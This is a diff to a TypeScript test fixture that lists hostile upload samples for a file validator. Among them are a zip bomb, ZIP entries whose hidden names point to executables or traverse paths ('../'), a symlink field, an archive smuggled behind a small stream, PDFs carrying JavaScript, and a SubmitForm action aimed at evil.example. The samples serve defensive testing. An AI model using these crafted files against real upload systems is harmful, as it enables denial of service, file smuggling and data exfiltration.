@@ -1,7 +1,8 @@
+import { deflateRawSync } from 'node:zlib'
 import type { UploadPurpose } from '#src/model/file/rules.ts'
 import { zip } from '#src/mock/files/zip.ts'
 import { docxFile, joinBytes, jpg, pdf, pdfOf, pdfPacked, png, pngChunk, textBytes } from '#tests/support/files.ts'
-import { archiveOf, nameField, type Part } from './archives.ts'
+import { archiveOf, fields, nameField, type Part } from './archives.ts'
 
 export type Hostile = {
   what: string
@@ -14,6 +15,7 @@ export type Hostile = {
 }
 
 const archive = (name: string) => zip([[name, 'x']])
+const [bomb, small] = [deflateRawSync(Buffer.alloc(1_000_000)), deflateRawSync('x')]
 const material = 'material' as const
 const kinds = '只能上传'
 const signs = '文件名不能含有'
@@ -218,6 +220,31 @@ const contents: Hostile[] = [
     rule: broken,
   },
   written('a name that its own head says otherwise', { name: '说明.txt', own: { name: '说明.exe' } }, broken),
+  written(
+    'two second names',
+    { name: '说明.txt', extra: joinBytes(nameField('说明.exe'), nameField('说明.txt')) },
+    broken,
+  ),
+  written(
+    'a link in a field of its own',
+    { name: '说明.txt', ownExtra: fields([2, 0x6c78], [2, 4], [4, 0xa1ff]) },
+    broken,
+  ),
+  written(
+    'a file that unpacks to more than it says',
+    { name: '说明.txt', method: 8, content: bomb, packed: bomb.length },
+    broken,
+  ),
+  written(
+    'a file behind which another lies',
+    {
+      name: '说明.txt',
+      method: 8,
+      content: joinBytes(small, archive('a.exe')),
+      packed: small.length + archive('a.exe').length,
+    },
+    broken,
+  ),
   written('a second name that is a program', { name: '说明.txt', extra: nameField('说明.exe') }, content),
   written('a second name that leads out', { name: '说明.txt', extra: nameField('../说明.txt') }, '路径不合规'),
   written('a second name that is an archive', { name: '说明.txt', extra: nameField('说明.zip') }, '压缩包内还有压缩包'),
@@ -225,6 +252,11 @@ const contents: Hostile[] = [
   written('a link of Windows', { name: '说明.txt', attributes: 0x420 }, content),
   written('an encrypted file', { name: '说明.txt', flags: 1 }, content),
   document('a program in its packed objects', pdfOf(pdfPacked('<</S/JavaScript/JS(1)>>')), active),
+  document(
+    'a program in objects whose packing has two names',
+    pdfOf(pdfPacked('<</S/JavaScript/JS(1)>>', '/N 1/First 4/F/FlateDecode')),
+    '无法检查',
+  ),
   document('a form that sends', pdf('2 0 obj<</S/SubmitForm/F(https://evil.example)>>endobj'), active),
   document('another document that it opens', pdf('2 0 obj<</S/GoToR/F(b.pdf)>>endobj'), active),
   document('a form that is a program', pdf('2 0 obj<</AcroForm<</XFA 3 0 R>>>>endobj'), active),
